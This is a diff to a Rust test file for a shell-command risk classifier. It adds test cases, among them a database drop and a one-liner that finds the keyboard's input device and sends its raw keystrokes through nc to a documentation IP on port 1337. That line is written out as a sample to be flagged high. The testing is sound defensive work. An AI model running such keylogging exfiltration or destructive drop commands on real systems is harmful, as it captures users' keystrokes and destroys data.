@@ -259,9 +259,27 @@ fn plans_rehearsals_and_dev_resources_are_not_high() {
         "systemd-run --user --on-active=25m notify-send 'Break' 'Stand up'",
         "docker exec -it web-dev sh -c 'rm -rf /app/tmp/cache/*'",
         "python manage.py flush --noinput --settings=config.settings.test",
+        "docker compose exec db psql -U postgres -c 'DROP DATABASE IF EXISTS app_test;'",
     ] {
         below_high(cmd);
     }
+    // a test database dropped together with another one is not a test-only drop
+    let a = assess(
+        "docker compose exec db psql -U postgres -c 'DROP DATABASE app_test; DROP DATABASE app;'",
+    );
+    assert!(
+        a.level >= RiskLevel::High,
+        "{:?} {:?}",
+        a.level,
+        a.rule_ids()
+    );
+    // a script that finds the keyboard's event device and reads it
+    at_least(
+        "dev=$(grep -l -i keyboard /sys/class/input/event*/device/name | head -1 | sed 's#/device/name##; s#/sys/class/input/#/dev/input/#')\nsudo cat \"$dev\" | od -An -tx1 | nc -q0 203.0.113.7 1337",
+        RiskLevel::High,
+        "surv.keyboard-device-located-and-read",
+    );
+    below_high("grep -i keyboard /proc/bus/input/devices");
     // the same commands applied, published, on the system manager or on production
     for cmd in [
         "octodns-sync --config-file config/production.yaml --doit",
